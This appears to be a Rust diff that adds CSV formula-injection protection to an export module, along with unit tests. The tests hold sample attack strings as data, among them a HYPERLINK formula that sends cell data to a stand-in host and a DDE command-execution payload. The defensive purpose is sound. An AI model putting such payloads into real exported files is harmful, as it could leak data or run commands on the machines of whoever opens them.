@@ -216,12 +216,43 @@ const MARKDOWN_COLUMNS: [&str; 4] = [
     "comments",
 ];
 
-fn cell(v: &Value, markdown_field: bool) -> String {
+/// Columns holding whole numbers, written as numbers; every other column is text.
+/// Decided by column, not by value, so a negative number stays a number and a text
+/// that looks like one (`-2+3`) is still neutralised.
+pub const NUMERIC_COLUMNS: [&str; 6] = [
+    "id",
+    "version",
+    "days_late",
+    "value_pence",
+    "term_months",
+    "audit_seq",
+];
+
+/// What a spreadsheet may take for the start of a formula (OWASP, "CSV Injection").
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as it is safe to open in a spreadsheet: one that starts with a formula
+/// trigger gets a single quote in front (as OWASP recommends), so Excel, LibreOffice
+/// and Sheets show it as the text it is instead of running it. Every text cell of every
+/// CSV file goes through here.
+pub fn text_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(FORMULA_TRIGGERS) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// The CSV cell of column `column` holding `v`.
+fn cell(column: &str, v: &Value) -> String {
     match v {
         Value::Null => String::new(),
-        Value::String(s) if markdown_field => markdown::to_text(s),
-        Value::String(s) => s.clone(),
-        other => other.to_string(),
+        Value::Number(n) if NUMERIC_COLUMNS.contains(&column) => n.to_string(),
+        Value::String(s) if MARKDOWN_COLUMNS.contains(&column) => {
+            text_cell(&markdown::to_text(s)).into_owned()
+        }
+        Value::String(s) => text_cell(s).into_owned(),
+        other => text_cell(&other.to_string()).into_owned(),
     }
 }
 
@@ -229,12 +260,7 @@ fn cell(v: &Value, markdown_field: bool) -> String {
 pub fn to_csv(columns: &[&str], records: &[Value]) -> Vec<u8> {
     let rows: Vec<Vec<String>> = records
         .iter()
-        .map(|r| {
-            columns
-                .iter()
-                .map(|c| cell(&r[*c], MARKDOWN_COLUMNS.contains(c)))
-                .collect()
-        })
+        .map(|r| columns.iter().map(|c| cell(c, &r[*c])).collect())
         .collect();
     csv_bytes(columns, &rows)
 }
@@ -278,10 +304,7 @@ pub fn write_both(
     json_out.write_all(&head.as_bytes()[..head.len() - 1])?;
     json_out.write_all(b",\"records\":[")?;
     for (i, r) in records.enumerate() {
-        let row: Vec<String> = columns
-            .iter()
-            .map(|c| cell(&r[*c], MARKDOWN_COLUMNS.contains(c)))
-            .collect();
+        let row: Vec<String> = columns.iter().map(|c| cell(c, &r[*c])).collect();
         w.write_record(&row)?;
         if i > 0 {
             json_out.write_all(b",")?;
@@ -335,6 +358,49 @@ mod tests {
             public_entry(&v, anonymous.clone()).payload,
             anonymous.payload
         );
+    }
+
+    #[test]
+    fn text_starting_with_a_formula_trigger_gets_a_quote_in_front() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(text_cell(formula), format!("'{formula}"));
+        }
+        for text in ["Riverside Practice", "", "2 = 2", "'quoted", " =x", "£5"] {
+            assert_eq!(text_cell(text), text, "{text:?} is left alone");
+        }
+    }
+
+    #[test]
+    fn numeric_columns_stay_numbers_and_text_columns_are_neutralised() {
+        let csv = to_csv(
+            &[
+                "id",
+                "days_late",
+                "value_pence",
+                "reference",
+                "justification",
+                "associate",
+            ],
+            &[
+                json!({"id": 3, "days_late": -2, "value_pence": 1500, "reference": "-2+3",
+                     "justification": "=1+1 **bold**", "associate": "@x"}),
+            ],
+        );
+        let text = String::from_utf8(csv).unwrap();
+        assert!(
+            text.ends_with("\r\n3,-2,1500,'-2+3,'=1+1 bold,'@x\r\n"),
+            "{text}"
+        );
+        // A number where a text column is expected is text, so it is neutralised too.
+        let csv = to_csv(&["reference"], &[json!({"reference": -4})]);
+        assert!(String::from_utf8(csv).unwrap().ends_with("'-4\r\n"));
     }
 
     #[test]
